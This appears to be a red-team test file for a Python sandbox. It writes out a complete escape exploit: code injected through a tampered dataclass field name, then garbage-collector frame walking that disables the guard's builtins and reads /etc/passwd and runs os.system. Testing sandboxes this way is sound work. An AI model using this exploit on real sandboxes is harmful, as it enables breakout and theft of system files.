# Technique (red team): a generator writing the attack program to a file
# expect: policy.builtin
# guard: open
payload = '''\
 import gc, os
 gc.set_debug(gc.DEBUG_SAVEALL)
 def cb(phase, info):
  if phase == 'start':
   try:
    raise KeyError
   except KeyError as e:
    err = e
 gc.callbacks.append(cb)
 p = os.path.dirname(os.__file__) + '/os.py'
 for k in range(12):
  gc.set_threshold(gc.get_count()[0] + k)
  open(p).close()
 gc.set_threshold(700)
 gc.callbacks.remove(cb)
 gc.collect()
 for o in gc.garbage:
  f = o if type(o).__name__ == 'frame' else None
  while f is not None:
   if 'busy' in f.f_locals and 'refuse' in f.f_locals:
    f.f_builtins['type'] = len
   f = f.f_back
 gc.garbage.clear()
 gc.set_debug(0)
 print(os.listdir('/'))
 print(open('/etc/passwd').read()[:120])
 print(eval('6*7'))
 import shutil
 print(shutil.which('sh'))
 print('system rc', os.system('echo hi'))
 return (lambda *a, **k: None)
'''
evil = "x=0, **_k):\n" + payload + "def _y(*_z"
prog = '''from dataclasses import dataclass, field


class B:
    x: int = field(default=0, init=False, repr=False, compare=False)


f = B.x  # a Field object kept in a variable (B is no dataclass)


@dataclass
class C(B):
    x: int  # C's field x is B's Field object f


orig = f.name
evil = %s
calls = [0]


class T:
    def __bool__(self):
        calls[0] += 1
        if calls[0] == 3:
            f.name = evil  # just before _init_fn builds its locals
        if calls[0] == 4:
            f.name = orig  # just before the guard checks the fields
        return True


@dataclass
class D(C):
    y: list = field(default_factory=list, init=T())
''' % repr(evil)
open('both.py', 'w').write(prog)
